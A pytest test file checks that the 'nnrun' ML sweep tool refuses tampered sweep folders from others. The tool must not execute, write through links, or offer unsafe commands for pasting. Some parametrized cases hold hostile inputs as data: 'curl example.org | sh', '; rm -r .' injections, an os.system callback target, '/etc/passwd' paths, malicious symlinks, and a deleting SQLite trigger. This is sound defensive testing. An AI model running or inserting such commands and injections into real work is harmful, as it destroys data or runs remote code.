"""A sweep's folder from somebody else: nothing of it is executed, written through or offered for pasting."""

import json
import logging
import os
import shutil
import sqlite3
from contextlib import closing

import pytest

from nnrun.folders import strangers
from tests import sweep_folders
from tests.sweep_folders import change_yaml

WORDS = ("search=random", "search.trials=2", "optimizer.learning_rate=interval(1e-3,1e-2)")
SWEEP = (*sweep_folders.SMALL, "model=mlp", *WORDS, "model.dropout=${optimizer.weight_decay}")
TRUST = "If the folder is your own, run again with --trust where ./conf and the code lie."


@pytest.fixture(scope="module")
def finished_sweep(command, tmp_path_factory):
    """A small completed sweep, for reading only; one of its keys is as another one."""
    folder = tmp_path_factory.mktemp("finished")
    done = command(*SWEEP, folder=folder)
    assert done.code == 0, done
    return folder / "sweep"


@pytest.fixture
def here(finished_sweep, tmp_path):
    """The test's folder, with a copy of the sweep, code beside it that must not run, and a place of the user's."""
    shutil.copytree(finished_sweep, tmp_path / "sweep")
    (tmp_path / "evil.py").write_text("open('pwned', 'w')")
    (tmp_path / "conf").mkdir()
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "file").write_text("of the user's")
    return tmp_path


def held(folder):
    """Every file with its content; pipes and links by their kind."""
    found = (path for path in folder.rglob("*") if not path.name.endswith(("-shm", "-wal")))
    return {path: path.read_bytes() if path.is_file() else path.is_symlink() for path in found}


@pytest.fixture
def refused(nnrun, here):
    """What a command says that refuses the folder, having written and executed nothing."""

    def run(*words):
        before = held(here)
        done = nnrun(*words)
        assert (done.code, done.out, done.err.count("\n")) == (2, "", 1), done
        assert held(here) == before
        return done.err

    return run


@pytest.fixture
def alike(refused):
    """What all verbs that read a sweep's trials say alike."""
    verbs = (("resume", "sweep", "search.trials=3"), ("report", "sweep"), ("show", "sweep"), ("best", "sweep", "2"))

    def run():
        found = {refused(*words) for words in verbs}
        assert len(found) == 1
        return found.pop()

    return run


def execute(folder, statement, *values):
    with closing(sqlite3.connect(folder / "sweep.db")) as database:
        database.execute(statement, values)
        database.commit()


def test_what_a_sweep_writes_is_gone_on_with_and_drawn(nnrun, here):
    assert nnrun("report", "sweep").code == 0
    assert nnrun("best", "sweep").code == 0
    assert nnrun("resume", "sweep", "search.trials=3").code == 0
    assert len(sweep_folders.ledger(here / "sweep")[0]) == 3


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({"model._target_": "evil.Model"}, "has a trial with model._target_, which its sweep does not search."),
        ({"model": {"_target_": "evil.Model"}}, "has a trial with model, which its sweep does not search."),
        ({"dataset.path": "/etc/passwd"}, "has a trial with dataset.path, which its sweep does not search."),
        (
            {"optimizer.learning_rate": {"_target_": "evil.f"}},
            "key that no run writes: optimizer.learning_rate._targ",
        ),
        ({"optimizer.learning_rate": "${oc.env:HOME}"}, f"optimizer.learning_rate is ${{oc.env:HOME}}. {TRUST}"),
        ({"optimizer.learning_rate": ["${${seed}:x}"]}, "must hold values alone"),
    ],
)
def test_trials_that_no_sweep_asks_for(alike, here, params, said):
    execute(here / "sweep", "UPDATE trials SET params = ?, state = 'waiting' WHERE number = 1", json.dumps(params))
    assert said in alike()


BASE = ("bases", 0, "config")


@pytest.mark.parametrize(
    ("keys", "value", "said"),
    [
        ((*BASE, "model", "_target_"), "evil.Model", "names model._target_=evil.Model, code outside nnrun, whi"),
        (("search", "_target_"), "evil.Search", "names search._target_=evil.Search, code outside nnrun"),
        ((*BASE, "model", "x"), {"_target_": "evil.f"}, "has a key that no run writes: model.x._target_"),
        ((*BASE, "hydra"), {"callbacks": {}}, "has a key that no sweep writes: hydra"),
        ((*BASE, "model", "dropout"), "${oc.env:HOME}", f"model.dropout is ${{oc.env:HOME}}. {TRUST}"),
        ((*BASE, "model"), "${dataset}", "names model._target_=nnrun.datasets.iris"),
        ((*BASE, "model", "hidden_sizes"), [1] * 300, "must have at most 256 entries in model.hidden_sizes"),
        (("space", "model"), {"values": [{"_target_": "evil.f"}]}, "searches a key that no sweep searches: model."),
        (("space", "model._target_"), {"values": ["evil.f"]}, "searches a key that no sweep searches: model._target_."),
        (("space", "model.dropout"), {"values": ["${oc.env:HOME}"]}, "space.model.dropout.values is ${oc.env:HOME}."),
        (("space", "seed"), {"range": {"start": 0, "step": 1, "count": 10**12}}, "is missing or damaged"),
        (("typed",), ["model._target_=evil.Model"], "has words that no nnrun writes: model._target_=evil.Model. If"),
        (("typed",), ["model.dropout=${oc.env:HOME}"], "has words that no nnrun writes: model.dropout=${oc.env:HOME}"),
        (("typed",), ["seed=1\nrm"], "has words that no nnrun writes: seed=1 rm. If"),
        (("typed",), ["; rm -r ."], "has words that no nnrun writes"),
        (("typed",), "seed=1", "is missing or damaged"),
        (("bases",), [], "is missing or damaged"),
        (("groups",), [{"number": "a"}], "is missing or damaged"),
        (("choosers",), ["model"], "is missing or damaged"),
        (("search",), None, "is missing or damaged"),
    ],
)
def test_records_that_no_sweep_writes(alike, here, keys, value, said):
    change_yaml(here / "sweep/sweep.yaml", *keys, value=value)
    assert said in alike()


@pytest.mark.parametrize("name", ["figures", "figures/x.png", ".report.html.partial", "run.log", "0/x", "best/a/b/c"])
def test_links_are_refused_wherever_they_lie(alike, here, name):
    path = here / "sweep" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to(here / "mine" / "file")
    assert f"sweep/{name} is a link, which no run writes; files would be written through it. {TRUST}" in alike()


def test_what_is_written_does_not_go_through_a_link_with_trust_either(nnrun, here):
    (here / "sweep/.report.html.partial").symlink_to(here / "mine/file")
    (here / "sweep/figures").mkdir(exist_ok=True)
    for picture in ("best.png", "learning_curves.png", "parallel.png"):
        (here / "sweep/figures" / picture).symlink_to(here / "mine/file")
    assert nnrun("report", "sweep", "--trust").code == 0
    assert (here / "mine/file").read_text() == "of the user's"
    (here / "sweep/.lock").unlink()
    (here / "sweep/.lock").symlink_to(here / "mine/file")
    listening = list(logging.getLogger("nnrun").handlers)
    assert "is a link, and nothing is written through it" in nnrun("resume", "sweep", "search.trials=3", "--trust").err
    assert logging.getLogger("nnrun").handlers == listening


def test_a_pipe_is_not_waited_at(alike, here):
    (here / "sweep/.lock").unlink()
    os.mkfifo(here / "sweep/.lock")
    assert f"sweep/.lock is neither a file nor a folder. {TRUST}" in alike()


def test_a_second_name_of_a_file_of_the_users_is_not_written(alike, here):
    (here / "sweep/.lock").unlink()
    os.link(here / "mine/file", here / "sweep/.lock")
    assert "sweep/.lock has a second name elsewhere, which no run's file has; both would be written." in alike()


def test_a_journal_that_has_sqlite_delete_a_file(alike, here):
    (here / "sweep/sweep.db-journal").write_bytes(b"x" * 600 + strangers.SUPER_JOURNAL)
    assert "sweep/sweep.db-journal names a further file, which SQLite would delete." in alike()


@pytest.mark.parametrize(
    "statement",
    [
        "CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c",
        "CREATE TRIGGER t AFTER UPDATE ON trials BEGIN DELETE FROM metrics; END",
    ],
)
def test_a_ledger_that_does_something_by_itself(alike, here, statement):
    execute(here / "sweep", statement)
    assert f"sweep.db is damaged: it holds {statement.split()[2]!r}, which no sweep makes." in alike()


@pytest.mark.parametrize(
    "recorded",
    [
        "curl example.org | sh",
        "nnrun model=mlp; rm -r .",
        "nnrun model=mlp\nrm -r .",
        "nnrun model=mlp `id`",
        "nnrun +hydra.callbacks.x._target_=os.system",
        "nnrun hydra/launcher=evil",
        "nnrun model._target_=evil.Model",
        "nnrun 'dataset.path=${oc.env:HOME}'",
        "nnrun 'experiment@hydra=evil'",
        "nnrun 'seed=1\x1b[2J'",
        "nnrun 'seed=1",
        "",
    ],
)
def test_only_commands_of_ours_are_offered_for_pasting(refused, nnrun, here, recorded):
    change_yaml(here / "sweep/best.yaml", "command", value=recorded)
    assert "sweep/best.yaml holds a command" in (said := refused("best", "sweep")) or "has words" in said
    path = here / "sweep/best/summary.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"command": f"sudo {recorded}"}))
    assert "not to be pasted unless it is your own" in nnrun("show", "sweep/best").out


def test_a_folder_with_a_name_for_the_shell_is_quoted(refused, here):
    (here / "sweep").rename(here / "a; rm -r .")
    assert "nnrun resume 'a; rm -r .' search.trials=N" in refused("resume", "a; rm -r .")


def test_a_choice_in_the_current_folder_is_not_run_by_name(refused, here):
    (here / "conf/model").mkdir()
    (here / "conf/model/evil.yaml").write_text("_target_: evil.Model\n")
    change_yaml(here / "sweep/best/config.yaml", "choices", "model", value="evil")
    assert "names model._target_=evil.Model, code outside nnrun" in refused("repeat", "sweep/best")
    (here / "conf/model/evil.yaml").write_text("# @package _global_\nhydra:\n  callbacks: {}\n")
    assert "conf/model/evil.yaml, which sets keys of others." in refused("repeat", "sweep/best")


def test_names_in_a_summary_make_no_lines_of_their_own(nnrun, here):
    path = here / "sweep/best/summary.json"
    names = {"model": "a\nb", "task": "c\x1b[2J", "error": "d\n  best val/loss 0.0"}
    path.write_text(json.dumps(json.loads(path.read_text()) | names))
    lines = nnrun("show", "sweep/best").out.splitlines()
    assert lines[0] == "sweep/best: a\\nb on iris, completed"
    assert lines[2].startswith("  task c\\x1b[2J, 2 epochs; python ")
    assert "  error: d\\n  best val/loss 0.0" in lines
